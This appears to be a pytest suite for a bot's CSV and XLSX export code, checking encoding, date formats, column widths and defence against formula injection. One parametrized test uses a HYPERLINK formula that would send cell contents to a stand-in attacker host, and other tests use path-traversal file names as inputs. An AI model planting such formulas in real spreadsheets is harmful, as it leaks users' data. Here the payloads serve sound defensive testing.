"""The CSV and XLSX writers: Excel reads them right, and nothing a worker typed runs in it."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from ffs_bot.spreadsheets import CSV_MIME, XLSX_MIME, Cell, Table, export_file, to_csv
from ffs_bot.xlsx import to_xlsx_sheets

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TABLE = Table(
    title="Registrations",
    header=("Factory", "Child", "Birth month", "Age", "First day", "Registered at", "In", "Notes"),
    rows=[
        ("SZ01", "小明", "2019-04", 8, date(2027, 7, 5), datetime(2027, 6, 2, 9, 7), None, None),
        (
            "SZ01",
            'Ann, "Annie"\nLee',
            "2020-11",
            6,
            date(2027, 7, 6),
            datetime(2027, 6, 3, 18, 30),
            time(8, 5),
            "花生过敏",
        ),
    ],
)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def xml_chars(text: str) -> str:
    """The characters of `text` that XML 1.0 allows."""
    return "".join(
        c
        for c in text
        if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c > "\uffff"
    )


def guarded(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def test_csv_is_utf8_with_a_bom_and_crlf_lines_so_excel_reads_chinese() -> None:
    content = to_csv(TABLE)
    assert content.startswith(b"\xef\xbb\xbfFactory,Child,")
    assert content.endswith(b"\r\n")
    # The one line break inside a name is quoted; every other line ends in CRLF.
    assert content.count(b"\r\n") == 3
    assert read_csv(content) == [
        list(TABLE.header),
        ["SZ01", "小明", "2019-04", "8", "2027-07-05", "2027-06-02 09:07", "", ""],
        [
            "SZ01",
            'Ann, "Annie"\nLee',
            "2020-11",
            "6",
            "2027-07-06",
            "2027-06-03 18:30",
            "08:05",
            "花生过敏",
        ],
    ]


def test_xlsx_has_a_bold_frozen_header_real_dates_and_sensible_widths() -> None:
    sheet = read_xlsx(to_xlsx_sheets([TABLE]))
    assert sheet.title == "Registrations"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == list(TABLE.header)
    assert all(c.font.bold for c in sheet[1])
    assert not any(c.font.bold for c in sheet[2])
    first, second = sheet[2], sheet[3]
    assert [c.value for c in first[:4]] == ["SZ01", "小明", "2019-04", 8]
    # Days and times are cells Excel can sort and count, shown the way we wrote them.
    assert first[4].is_date and first[4].value == datetime(2027, 7, 5)
    assert first[4].number_format == "yyyy-mm-dd"
    assert first[5].value == datetime(2027, 6, 2, 9, 7)
    assert first[5].number_format == "yyyy-mm-dd hh:mm"
    assert second[6].value == time(8, 5) and second[6].number_format == "hh:mm"
    assert first[6].value is None
    assert second[1].value == 'Ann, "Annie"\nLee'
    # The widest value plus two, at least 8: "2027-06-02 09:07" is wider than "Factory",
    # a line break counts as a character, and Chinese characters count twice.
    widths = {col: sheet.column_dimensions[col].width for col in "ABCDEFGH"}
    assert widths == {"A": 9, "B": 18, "C": 13, "D": 8, "E": 12, "F": 18, "G": 8, "H": 10}
    assert sheet.auto_filter.ref == "A1:H3"


def test_xlsx_sheets_come_in_order_each_with_its_own_header_filter_and_formats() -> None:
    bookings = Table(
        "Workshop bookings",
        ("Day", "Starts", "Person", "Checked in", "Comment"),
        [
            (date(2027, 7, 5), time(9, 0), "王芳", datetime(2027, 7, 5, 8, 55), "=1+1"),
            (date(2027, 7, 5), time(14, 30), "@Lee", None, "讲得很好，下次还来，带孩子一起来听"),
        ],
    )
    notes = Table("Notes", ("Note",), [("x" * 80,)])
    empty = Table("Nothing yet", ("Factory", "Child"), [])
    book = load_workbook(io.BytesIO(to_xlsx_sheets([TABLE, bookings, notes, empty])))
    assert book.sheetnames == ["Registrations", "Workshop bookings", "Notes", "Nothing yet"]
    sheets = [book[name] for name in book.sheetnames]
    for sheet, table, last_cell in zip(
        sheets, [TABLE, bookings, notes, empty], ["H3", "E3", "A2", "B1"], strict=True
    ):
        assert isinstance(sheet, Worksheet)
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{last_cell}"
        assert [c.value for c in sheet[1]] == list(table.header)
        assert all(c.font.bold for c in sheet[1])
        assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
            [_read_back(value) for value in row] for row in table.rows
        ]
    rows = list(sheets[1].iter_rows(min_row=2))
    assert not any(c.font.bold for row in rows for c in row)
    assert [c.number_format for c in rows[0]] == [
        "yyyy-mm-dd",
        "hh:mm",
        "General",
        "yyyy-mm-dd hh:mm",
        "General",
    ]
    assert rows[0][0].is_date and rows[0][3].is_date
    assert (rows[0][4].value, rows[1][2].value) == ("'=1+1", "'@Lee")
    assert "f" not in {c.data_type for sheet in sheets for row in sheet.iter_rows() for c in row}
    widths = {
        sheet.title: [d.width for _col, d in sorted(sheet.column_dimensions.items())]
        for sheet in sheets
    }
    # 16 for "2027-07-05 08:55", 34 for seventeen wide characters; at most 50.
    assert widths["Workshop bookings"] == [12, 8, 8, 18, 36]
    assert widths["Notes"] == [50]
    assert widths["Nothing yet"] == [9, 8]


def _read_back(value: Cell) -> Cell:
    """What openpyxl reads back for a value written as it is: a day comes back at midnight."""
    if isinstance(value, date) and not isinstance(value, datetime):
        return datetime(value.year, value.month, value.day)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def test_xlsx_sheet_title_drops_what_excel_refuses() -> None:
    table = Table("Roster: SZ01/2027 [summer] and a title far too long for a tab", ("a",), [])
    title = read_xlsx(to_xlsx_sheets([table])).title
    assert len(title) <= 31
    assert not set(title) & set("[]:*?/\\")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    table = Table("T", ("Child",), [(text,), ("ok-" + text,)])
    assert read_csv(to_csv(table))[1:] == [["'" + text], ["ok-" + text]]
    sheet = read_xlsx(to_xlsx_sheets([table]))
    # In a workbook a line break is LF, as Excel writes it, even at the start.
    lf = text.replace("\r", "\n")
    assert [c.value for c in sheet["A"]] == ["Child", "'" + lf, "ok-" + lf]
    assert {c.data_type for c in sheet["A"]} == {"s"}


def test_naughty_strings_come_back_as_text_and_never_as_formulas(
    naughty_strings: list[str],
) -> None:
    table = Table("T", ("Name", "Notes"), [(s, s) for s in naughty_strings])
    rows = read_csv(to_csv(table))[1:]
    assert rows == [[guarded(s), guarded(s)] for s in naughty_strings]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    sheet = read_xlsx(to_xlsx_sheets([table]))
    found = [(c.value or "", c.data_type) for c in sheet["A"][1:]]
    assert len(found) == len(naughty_strings)
    assert not [c for c in sheet["A"] if c.data_type == "f"]
    for text, (value, _type) in zip(naughty_strings, found, strict=True):
        # XML cannot carry some control characters, U+FFFE or U+FFFF: those alone are dropped.
        expected = guarded(xml_chars(text)).replace("\r\n", "\n").replace("\r", "\n")
        assert value == expected, text


def test_export_file_names_the_file_and_its_type() -> None:
    csv_file = export_file(TABLE, "csv", "registrations-SZ01")
    assert (csv_file.filename, csv_file.mime) == ("registrations-SZ01.csv", CSV_MIME)
    assert csv_file.content == to_csv(TABLE)
    xlsx_file = export_file(TABLE, "xlsx", "报名 SZ01/../2027")
    assert (xlsx_file.filename, xlsx_file.mime) == ("报名_SZ01_.._2027.xlsx", XLSX_MIME)
    assert read_xlsx(xlsx_file.content)["B2"].value == "小明"
    assert export_file(TABLE, "csv", "../..").filename == "export.csv"


class Name(str):
    """Text of a subclass of str, as a library might hand over."""


def test_csv_cells_are_written_the_same_whatever_else_is_in_their_column() -> None:
    # CSV is made a column at a time, a few thousand rows at a time: a column of safe text
    # or plain numbers passes as it is, so one odd cell among thousands must still be found
    # and written as it should, in whichever batch of rows it is.
    def row(i: int) -> tuple[Cell, ...]:
        return (
            {700: "=1+2", 4701: "a\n=b", 4702: "@SUM(A1)", 703: ""}.get(i, f"child {i}"),
            None if i % 3 else date(2027, 7, 1 + i % 28),
            None if i % 2 else time(8, i % 60, 59),
            datetime(2027, 7, 1, 8, i % 60, 30, 999_999),
            i if i % 10 else f"-{i}",  # numbers and text in one column
            Name("=HYPERLINK()") if i == 4999 else Name(f"Kid {i}"),
            i,
        )

    def written(i: int) -> list[str]:
        text = {700: "'=1+2", 4701: "a\n=b", 4702: "'@SUM(A1)", 703: ""}.get(i, f"child {i}")
        return [
            text,
            "" if i % 3 else f"2027-07-{1 + i % 28:02d}",
            "" if i % 2 else f"08:{i % 60:02d}",
            f"2027-07-01 08:{i % 60:02d}",
            str(i) if i % 10 else f"'-{i}",
            "'=HYPERLINK()" if i == 4999 else f"Kid {i}",
            str(i),
        ]

    header = ("Text", "Day", "Time", "At", "Mixed", "Name", "Number")
    table = Table("T", header, [row(i) for i in range(5000)])
    assert read_csv(to_csv(table)) == [list(header)] + [written(i) for i in range(5000)]
    # Rows of different lengths are written as they are.
    ragged = Table("T", ("a", "b"), [("=x", time(9, 5)), ("y",), ()])
    assert read_csv(to_csv(ragged))[1:] == [["'=x", "09:05"], ["y"], []]


def test_xlsx_cells_are_written_the_same_whatever_else_is_in_their_column() -> None:
    # As with CSV, a workbook's cells are converted a column at a time, a few thousand rows
    # at a time: columns of plain text or numbers pass as they are, so an odd cell among
    # thousands must still be made safe, and every day or time keep its format.
    odd_text = {700: "=1+2", 4701: "a\n=b", 4702: "@SUM(A1)", 703: ""}
    safe_text = {700: "'=1+2", 4701: "a\n=b", 4702: "'@SUM(A1)"}
    # Nothing in this column starts like a formula; XML cannot hold a lone CR or a NUL.
    odd_notes = {12: "a\rb", 13: "c\r\nd", 4800: "a\x00b\ufffe"}
    safe_notes = {12: "a\nb", 13: "c\nd", 4800: "ab"}
    moments: tuple[Cell, ...] = (date(2027, 7, 2), datetime(2027, 7, 2, 8, 15), time(8, 15))
    read_moments = (datetime(2027, 7, 2), datetime(2027, 7, 2, 8, 15), time(8, 15))
    formats = ("yyyy-mm-dd", "yyyy-mm-dd hh:mm", "hh:mm")

    def row(i: int) -> tuple[Cell, ...]:
        return (
            odd_text.get(i, f"child {i}"),
            None if i % 3 else date(2027, 7, 1 + i % 28),
            None if i % 2 else time(8, i % 60),
            datetime(2027, 7, 1, 8, i % 60),
            i if i % 10 else f"-{i}",  # numbers and text in one column
            Name("=HYPERLINK()") if i == 4999 else Name(f"Kid {i}"),
            moments[i % 3] if i % 4 else None,  # days and times in one column
            odd_notes.get(i, f"note {i}\n{i}"),
            i,
        )

    def written(i: int) -> list[tuple[Cell, str] | None]:
        return [
            None if i == 703 else (safe_text.get(i, f"child {i}"), "General"),
            None if i % 3 else (datetime(2027, 7, 1 + i % 28), "yyyy-mm-dd"),
            None if i % 2 else (time(8, i % 60), "hh:mm"),
            (datetime(2027, 7, 1, 8, i % 60), "yyyy-mm-dd hh:mm"),
            (i, "General") if i % 10 else (f"'-{i}", "General"),
            ("'=HYPERLINK()" if i == 4999 else f"Kid {i}", "General"),
            (read_moments[i % 3], formats[i % 3]) if i % 4 else None,
            (safe_notes.get(i, f"note {i}\n{i}"), "General"),
            (i, "General"),
        ]

    header = ("Text", "Day", "Time", "At", "Mixed", "Name", "When", "Notes", "Number")
    table = Table("T", header, [row(i) for i in range(5000)])
    sheet = load_workbook(io.BytesIO(to_xlsx_sheets([table])), read_only=True).worksheets[0]
    found = [
        [None if c.value is None else (c.value, c.number_format) for c in r]
        for r in sheet.iter_rows(min_row=2)
    ]
    assert found == [written(i) for i in range(5000)]
